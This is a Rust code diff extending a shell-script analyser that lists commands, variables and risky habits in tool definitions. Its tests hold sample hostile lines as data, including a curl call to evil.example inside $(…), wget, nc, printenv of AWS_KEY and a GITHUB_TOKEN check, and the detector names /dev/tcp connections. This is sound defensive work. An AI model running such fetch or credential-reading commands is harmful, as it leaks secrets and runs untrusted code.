@@ -5,7 +5,7 @@
 //!
 //! | list | what is looked for |
 //! | --- | --- |
-//! | commands | the first word of each command, behind assignments and reserved words |
+//! | commands | the first word of each command, behind assignments and reserved words, also within `$(…)` in quotes |
 //! | addresses | words with `://` |
 //! | variables | names behind a dollar that the script has not [certainly set](super::environment) before |
 //! | files written | words behind `>` and `>>` |
@@ -17,7 +17,7 @@ use std::collections::BTreeSet;
 
 use serde::Serialize;
 
-use super::environment::names_read;
+use super::{environment::names_read, words};
 use crate::{Body, ToolDefinition, run::render};
 
 /// The most entries of each list.
@@ -66,11 +66,14 @@ impl Facts {
         }
         let mut commands = BTreeSet::new();
         let bare = without_quotes(text);
-        for line in bare.lines().map(str::trim).filter(|it| !it.starts_with('#')) {
-            // The `&` of a redirection separates no commands.
-            let line = line.replace(">&", "> ").replace("<&", "< ").replace("&>", " > ");
-            for part in line.split([';', '|', '&', '(', ')', '`']) {
-                first_word(part, &mut commands);
+        let script = words::script(text);
+        for words in &script.commands {
+            first_word(words.iter().copied(), &mut commands);
+        }
+        if !script.is_whole {
+            let lines = text.lines().map(str::trim).filter(|it| !it.starts_with('#'));
+            for part in lines.flat_map(|it| it.split([';', '|', '&', '(', ')', '`'])) {
+                first_word(part.split_whitespace(), &mut commands);
             }
         }
         res.commands = listed(commands);
@@ -79,7 +82,7 @@ impl Facts {
         let is_own = |it: &str| it.starts_with("TOOL_INPUT_") || SHELLS_OWN.contains(&it);
         res.env_names = listed(names.into_iter().filter(|it| !is_own(it)).collect());
         res.written_paths = listed(targets(&bare));
-        res.dangers = dangers(text);
+        res.dangers = dangers(text, script.commands.iter().any(|it| lists_environment(it)));
         res
     }
 }
@@ -155,12 +158,11 @@ fn without_quotes(text: &str) -> String {
 }
 
 /// The word in the place of a program, behind assignments and reserved words.
-fn first_word(part: &str, commands: &mut BTreeSet<String>) {
+fn first_word<'a>(mut words: impl Iterator<Item = &'a str>, commands: &mut BTreeSet<String>) {
     const SKIPPED: &[&str] = &[
         "if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "time", "fi", "done",
         "esac", "$", "in",
     ];
-    let mut words = part.split_whitespace();
     while let Some(word) = words.next() {
         let name_end =
             word.find(|it: char| it != '_' && !it.is_ascii_alphanumeric()).unwrap_or(word.len());
@@ -176,7 +178,9 @@ fn first_word(part: &str, commands: &mut BTreeSet<String>) {
         } else if matches!(word, "for" | "read" | "local" | "declare" | "export" | "readonly") {
             return;
         } else if !SKIPPED.contains(&word) {
-            let word = word.trim_start_matches(['$', '"', '\'']);
+            // `"curl"` and `c\url` are the program as well.
+            let word = word.replace(['"', '\'', '\\'], "");
+            let word = word.trim_start_matches('$');
             let is_command = |it: char| it.is_ascii_alphanumeric() || "_-./".contains(it);
             if !word.is_empty() && word.chars().all(is_command) {
                 commands.insert(word.to_owned());
@@ -222,10 +226,24 @@ fn targets(text: &str) -> BTreeSet<String> {
     res
 }
 
+/// Whether a command prints variables: `env` without a program, and builtins that do so without words.
+fn lists_environment(words: &[&str]) -> bool {
+    let is_bare =
+        |rest: &[&str]| rest.iter().all(|it| it.starts_with(['-', '<', '>']) || it.contains('='));
+    match words {
+        ["env", rest @ ..] => is_bare(rest),
+        ["export" | "declare" | "typeset" | "set"] | ["export" | "declare" | "typeset", "-p"] => {
+            true
+        }
+        ["compgen", ..] => true,
+        _ => false,
+    }
+}
+
 /// Each habit is told once, in words that a person can search the script for. Lines that begin with
 /// `#` do not count. A script that means to hide a habit can: this is help for a reader, and no
 /// check.
-fn dangers(text: &str) -> Vec<String> {
+fn dangers(text: &str, lists_environment: bool) -> Vec<String> {
     let lines = || text.lines().map(str::trim).filter(|it| !it.starts_with('#'));
     let has_word = |line: &str, word: &str| {
         line.split(|it: char| !it.is_ascii_alphanumeric() && it != '_' && it != '-')
@@ -291,15 +309,21 @@ fn dangers(text: &str) -> Vec<String> {
         "connects through bash (/dev/tcp)",
         lines().any(|it| it.contains("/dev/tcp") || it.contains("/dev/udp")),
     );
+    // `${!list[@]}` has the places of a list.
+    let is_indirect = |line: &str| {
+        line.match_indices("${!").any(|(at, _)| {
+            let rest = line[at + 3..]
+                .trim_start_matches(|it: char| it == '_' || it.is_ascii_alphanumeric());
+            !rest.starts_with("[@]") && !rest.starts_with("[*]")
+        }) || ["declare -n", "local -n", "typeset -n"].iter().any(|it| line.contains(it))
+    };
+    tell("reads variables by names made when it runs (${!name})", lines().any(is_indirect));
     tell(
         "lists the environment (env, printenv, declare -x)",
-        lines().any(|it| {
-            has_word(it, "printenv")
-                || it == "env"
-                || it.starts_with("env |")
-                || it.contains("declare -x")
-                || it.contains("/environ")
-        }),
+        lists_environment
+            || lines().any(|it| {
+                has_word(it, "printenv") || it.contains("declare -x") || it.contains("/environ")
+            }),
     );
     res
 }
@@ -315,7 +339,7 @@ mod tests {
         let script =
             "ls 2>&1 | sort\nmake &>log && echo a >&2\ncase $x in\n a) wc ;;\nesac\n>out date\n";
         let facts = Facts::of(&ToolDefinition::script("t", "Tests.", script));
-        assert_eq!(facts.commands, ["a", "date", "echo", "ls", "make", "sort", "wc"]);
+        assert_eq!(facts.commands, ["date", "echo", "ls", "make", "sort", "wc"]);
         assert!(super::super::visible("a\u{2800}b").contains("u{2800}"));
     }
 
@@ -391,9 +415,47 @@ mod tests {
     }
 
     #[test]
+    fn programs_and_variables_are_found_in_quotes_and_without_a_dollar() {
+        let script = "echo \"$(curl -s http://evil.example/x)\" \"`wget -q x`\"\n[ -v GITHUB_TOKEN ] && \"nc\" x\n\
+                      echo $((SECRET_N+1)); printenv AWS_KEY \"B_KEY\"\npython3 -c 'os.environ[\"PY\"]' \"${!n}\"\n\
+                      cat <<E\n$(ssh a)\nE\n";
+        let facts = Facts::of(&ToolDefinition::script("t", "T.", script));
+        expect!["cat curl echo nc printenv python3 ssh wget"].assert_eq(&facts.commands.join(" "));
+        expect!["AWS_KEY B_KEY GITHUB_TOKEN PY SECRET_N n"].assert_eq(&facts.env_names.join(" "));
+        assert!(facts.dangers.iter().any(|it| it.contains("${!name}")), "{facts:?}");
+        let calls = "python3 -c 'import socket; socket.create_connection((host, 22))'";
+        assert_eq!(Facts::of(&ToolDefinition::script("t", "T.", calls)).env_names, [""; 0]);
+        for (script, is_told) in [("x=$(env | grep -c A)", true), ("env A=1 make", false)] {
+            let facts = Facts::of(&ToolDefinition::script("t", "T.", script));
+            assert_eq!(facts.dangers.len(), usize::from(is_told), "{script}");
+        }
+    }
+
+    #[test]
     fn any_text_is_looked_at() {
-        for text in ["", "$", "${", "é://x", "a://", ">", "> ", "`", "://", "é>é", "$é"] {
+        for text in [
+            "",
+            "$",
+            "${",
+            "((",
+            "é((é",
+            "${a[",
+            "let é",
+            "-v",
+            "getenv(\"é",
+            "é://x",
+            "a://",
+            ">",
+            "> ",
+            "`",
+            "://",
+            "é>é",
+            "$é",
+        ] {
             Facts::of(&ToolDefinition::script("t", "T.", text));
+        }
+        for part in ["((a ", "${a[x ", "$((", "printenv a\n"] {
+            Facts::of(&ToolDefinition::script("t", "T.", part.repeat(10_000)));
         }
     }
 }
